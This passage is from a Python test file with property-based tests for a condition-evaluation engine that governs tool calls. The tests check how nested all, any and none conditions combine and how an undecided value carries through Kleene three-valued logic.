    """Return whether a condition holds, worked out the slow way."""
    return (
        (not condition.users or user in condition.users)
        and all(expected(each, user) for each in condition.all)
        and (not condition.any or any(expected(each, user) for each in condition.any))
        and not any(expected(each, user) for each in condition.none)
    )


@given(CASES, st.sampled_from(["x", "y", "z"]))
def test_conditions_combine_as_they_say(condition: Condition, user: str) -> None:
    """All, any and none, however deep they nest."""
    assume(condition != Condition())
    ready = holds("c", condition, surroundings(), doubt=False)
    call = ToolCall("", Tool("t"), {}, Principal(user), "", 0.0)
    assert ready(call, Session("", call.principal)) is expected(condition, user)


def surroundings(**conditions: Condition) -> Surroundings:
    """Return what conditions may refer to: some others."""
    return Surroundings(Around(), conditions, {}, Tallies(), (), {})


DOUBTS = st.recursive(
    st.sampled_from(["yes", "no", "doubt"]).map(lambda name: Condition(arguments={name: ArgumentRule(equals="y")})),
    lambda inner: st.builds(Condition, all=st.lists(inner, max_size=2).map(tuple), any=st.lists(inner, max_size=2).map(tuple), none=st.lists(inner, max_size=2).map(tuple)),
    max_leaves=10,
)  # fmt: skip
FACTS: dict[str, object] = {"yes": "y", "no": "n", "doubt": 1}


def kleene(condition: Condition) -> bool | None:
    """Return what Kleene's logic of three values says of a condition."""
    parts: list[bool | None] = [
        {"yes": True, "no": False, "doubt": None}[name] for name in condition.arguments
    ]
    parts += [kleene(each) for each in condition.all]
    if condition.any:
        some = [kleene(each) for each in condition.any]
        parts.append(True if True in some else None if None in some else False)
    for each in condition.none:
        found = kleene(each)
        parts.append(None if found is None else not found)
    return False if False in parts else None if None in parts else True


@given(DOUBTS)
def test_a_doubt_counts_in_one_direction_however_conditions_nest(condition: Condition) -> None:
    """It is kept through `all`, `any` and `none`, and only in the end counts as yes or as no."""
    call = ToolCall("", Tool("t"), FACTS, Principal("x"), "", 0.0)
    session = Session("", call.principal)
    for doubt in (True, False):
        ready = holds("c", condition, surroundings(), doubt=doubt)
        found = kleene(condition)
        assert ready(call, session) is (doubt if found is None else found)
